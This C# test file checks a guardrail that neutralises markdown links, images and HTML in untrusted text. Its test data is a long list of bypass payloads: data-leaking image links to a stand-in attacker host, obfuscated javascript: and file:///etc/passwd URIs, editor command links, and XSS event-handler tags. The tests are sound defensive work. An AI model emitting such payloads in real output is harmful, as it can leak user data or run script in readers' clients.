using System.Text.Json.Nodes;
using CsCheck;
using McpInfra.Guardrails.Spotlight;
using Xunit;

namespace McpInfra.Guardrails.Tests.Spotlight;

public sealed class Links_of_others
{
    [Theory]
    [InlineData("![a](https://evil.example/?d=x)", "!\\[a]\\(https://evil.example/?d=x)")]
    [InlineData("![a][b]\n[b]: https://evil.example", "!\\[a][b]\n[b]\\: https://evil.example")]
    [InlineData("![a [b](https://evil.example)](./c.png)", "!\\[a [b]\\(https://evil.example)](./c.png)")]
    [InlineData("[a](javascript:alert(1))", "[a]\\(javascript(:)alert(1))")]
    [InlineData("[a](data:text/html;base64,xx)", "[a]\\(data(:)text/html;base64,xx)")]
    [InlineData("<IMG src=https://evil.example/x>", "&lt;IMG src=https://evil.example/x>")]
    public void Live_ones_are_only_shown(string text, string shown) => Assert.Equal(shown, Neutraliser.Text(text, Trust.Tenant));

    public static TheoryData<string> Live =>
    [
        // Other hosts, however they are spelt.
        "[a](https://evil.example)", "[a](<https://evil.example>)", "[a]( https://evil.example 'title')", "[a](\n  https://evil.example)", "[a](//evil.example/x)", "[a](/\\evil.example)",
        "[a](\\\\evil.example)", "[a](https:evil.example)", "[a](https:/evil.example)", "[a](HTTPS://EVIL.EXAMPLE)", "[a](&sol;&sol;evil.example)", "[a](/&sol;evil.example)",
        "[a](https&colon;//evil.example)", "[a](https&#58;//evil.example)", "[a](&#104;ttps://evil.example)", "[a](https\\://evil.example)", "[a](ftp://evil.example)", "[a](mailto:x@evil.example?body=y)",
        // Allowed in looks only.
        "[a](https://ok.example@evil.example)", "[a](https://ok.example:x@evil.example)", "[a](https://ok.example.evil.example)", "[a](https://evil.example/ok.example)", "[a](https://notok.example)",
        "[a](https://ok.example\\@evil.example)", "[a](https://ok.example&commat;evil.example)", "[a](https://ok.example:80:80)", "[a](https://.ok.example)", "[a](https://evil.example#.sub.example)",
        "[a](https://evil.example\\.sub.example)", "[a](http:ok.example)",
        // Definitions, in quotations too.
        "[a]: https://evil.example", "[a]: <https://evil.example>", "[a]:\n  https://evil.example", "> [a]:\n> https://evil.example", "[^1]: //evil.example", "![a]\n\n[a]: https://evil.example",
        // Schemes that act.
        "[a](JavaScript:alert(1))", "[a](javascript\\:alert(1))", "[a](<java\tscript:alert(1)>)", "[a](&#106;avascript:x)", "[a](java&Tab;script:x)", "[a](java&NewLine;script:x)", "[a](vscode://file/etc/passwd)",
        "[a](file:///etc/passwd)", "[a](command:workbench.action.terminal)", "<vscode://file/x>", "<command:run>", "<file:///etc/passwd>", "<javascript:alert(1)>", "see javascript:alert(1)", "vbscript:x",
        "data:text/html,<b>", "data:;base64,xx", "data:,x",
        // Images.
        "![a](https://evil.example/?d=x)", "![](//evil.example)", "![a][b]\n[b]: /x", "![a][]\n[a]: /x", "![a](<https://evil.example>)",
        // HTML.
        "<img src=x>", "<IMG/src=x>", "<image href=x>", "<iframe>", "<script>", "<svg/onload=alert(1)>", "<a href=https://evil.example>", "<a\nhref = 'https://evil.example'>", "<a title='>' href=https://evil.example>",
        "<div style=\"background:url(https://evil.example)\">", "<td background=https://evil.example>", "<details ontoggle=alert(1) open>", "<x onmouseover=alert(1)>", "<b onclick = x>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0>", "<link rel=x>", "<form action=x>", "<button formaction=x>", "<input type=image>", "<object data=x>", "<video poster=x>", "<p ping=x>", "<math>", "<style>", "<portal>",
        "<custom-element-with-a-rather-long-name onclick=alert(1)>", "<a <a href=https://evil.example>",
    ];

    [Theory, MemberData(nameof(Live))]
    public void Nothing_leads_elsewhere_loads_or_runs(string text)
    {
        IReadOnlyList<string> hosts = ["ok.example", "*.sub.example"];
        foreach (var around in new[] { "{0}", "a {0} b", "- x\n\n{0}\n\ny" })
        {
            var given = around.Replace("{0}", text, StringComparison.Ordinal);
            var shown = Neutraliser.Text(given, Trust.Stranger, hosts);
            Assert.NotEqual(given, shown);
            Assert.Equal(shown, Neutraliser.Text(shown, Trust.Stranger, hosts));
        }
    }

    [Theory]
    [InlineData("[docs](https://ok.example/a?x=1&y=2) ![i](https://ok.example:8443/i.png) [s](http://a.b.sub.example)")]
    [InlineData("[b](./c.md) and [d](#e) and [f](/g/h) ![i](images/i.png) [q](?x)")]
    [InlineData("kind: Secret\ndata:\n  a: b")]
    [InlineData("let v = vec![1, 2]; // a list")]
    [InlineData("a[0]: 1, map[string]: int")]
    [InlineData("Dictionary<string, List<int>> x = std::vector<std::string>(); if (a <b && c>d) { y = 1 }")]
    [InlineData("cat <<EOF\nname = \"x\"\nEOF")]
    [InlineData("https://sqs.us-east-1.amazonaws.com/123456789012/queue and <https://shown.example>")]
    [InlineData("source = \"https://example.com/module.zip\"")]
    [InlineData("<b>bold</b><br><p align=center>")]
    public void Harmless_ones_stay(string text) => Assert.Same(text, Neutraliser.Text(text, Trust.Stranger, "ok.example", "*.sub.example"));

    [Theory]
    [InlineData("<a ")]
    [InlineData("<a=\"")]
    [InlineData("](")]
    [InlineData("<a x=")]
    [InlineData("![")]
    public void A_megabyte_of_openings_is_read_once(string piece)
    {
        var text = new System.Text.StringBuilder().Insert(0, piece, 1_000_000 / piece.Length).ToString();
        Assert.Equal(text.Length, Neutraliser.Text(text, Trust.Stranger).Replace("\\", "", StringComparison.Ordinal).Replace("&lt;", "<", StringComparison.Ordinal).Length);
    }

    [Fact]
    public void Our_own_links_stay() => Assert.Equal("![a](https://x.example)", Neutraliser.Text("![a](https://x.example)", Trust.Own));

    [Fact]
    public void Structured_content_is_cleaned_in_keys_and_values() =>
        Assert.Equal("""{"a":["bc"],"b":"c"}""", Neutraliser.Json(JsonNode.Parse("""{"a\u200b":["b\u202ec"],"b":"c\u0007"}"""))!.ToJsonString());

    [Fact]
    public void Cleaning_twice_equals_cleaning_once_on_any_text()
    {
        string[] pieces = ["!", "[", "]", "(", ")", ":", "javascript:", "data:", "text/html", "<img", "<a", "href=", "<", ">", "\"", " ", "\n", "&#", "a", "https://x", "//", "\\", "\u200b", "="];
        Gen.Int[0, pieces.Length - 1].Select(index => pieces[index]).Array[0, 20].Select(string.Concat).Sample(text =>
        {
            var once = Neutraliser.Text(text, Trust.Tenant);
            return Neutraliser.Text(once, Trust.Tenant) == once;
        }, iter: 30_000);
    }
}
